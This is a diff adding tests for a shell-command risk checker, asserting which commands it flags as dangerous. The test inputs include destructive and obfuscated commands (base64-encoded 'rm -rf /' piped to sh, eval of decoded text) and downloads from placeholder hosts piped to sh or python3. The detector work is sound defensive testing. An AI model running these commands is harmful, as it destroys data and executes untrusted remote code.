@@ -90,6 +90,15 @@ describe('checkCommand', () => {
     }
   });
 
+  it('catches downloaded or decoded code run by an interpreter, but not interpreters reading piped data', () => {
+    assert.equal(checkCommand('echo cm0gLXJmIC8= | base64 -d | sh').risk, 'dangerous');
+    assert.equal(checkCommand('eval "$(echo cm0= | base64 -d)"').risk, 'dangerous');
+    assert.equal(checkCommand('x=rm; $x -rf /').risk, 'dangerous');
+    assert.equal(checkCommand('curl -s https://get.example | python3').risk, 'dangerous');
+    assert.notEqual(checkCommand("curl -s http://api/v1/health | python3 -c 'import json,sys; print(json.load(sys.stdin))'").risk, 'dangerous');
+    assert.notEqual(checkCommand('zcat access.log.gz | python3 -m json.tool').risk, 'dangerous');
+  });
+
   it('explains why a command is dangerous', () => {
     assert.match(checkCommand('kubectl delete pvc data-0').reasons[0]!, /pvc/);
     assert.match(checkCommand('curl https://x.example/i.sh | sh').reasons[0]!, /download/);
